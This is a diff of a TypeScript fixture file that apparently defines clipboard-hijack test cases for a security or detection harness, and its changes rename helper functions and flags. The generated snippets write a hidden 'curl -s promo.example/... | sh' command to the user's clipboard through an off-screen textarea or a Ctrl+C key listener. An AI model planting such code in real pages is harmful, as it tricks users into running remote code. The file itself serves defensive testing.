@@ -1,11 +1,11 @@
-import { effectsOf } from './effect.ts'
+import { createEffects } from './effect.ts'
 
 const text = (token: string) => `'curl -s promo.example/${token} | sh'`
 const field = (where: string, token: string) =>
   `var t=${where}.createElement('textarea');t.value=${text(token)};t.style.cssText='position:fixed;left:-99px;top:0;width:9px';${where}.body.appendChild(t);t.select();${where}.execCommand('copy');`
 
 export const clipboardHijacks = [
-  ...effectsOf(
+  ...createEffects(
     'clipboard-hijack',
     'clipboard',
     {
@@ -27,7 +27,7 @@ export const clipboardHijacks = [
     },
     { needsActivation: true },
   ),
-  ...effectsOf(
+  ...createEffects(
     'clipboard-hijack',
     'copy',
     {
@@ -44,6 +44,6 @@ export const clipboardHijacks = [
       'key listener that writes': ({ token }) =>
         `D.addEventListener('keydown',function(e){e.ctrlKey&&e.key==='c'&&setTimeout(function(){W.navigator.clipboard.writeText(${text(token)})},10)})`,
     },
-    { isEarly: true, isNeverMeant: true },
+    { isEarly: true, isNeverAllowed: true },
   ),
 ]
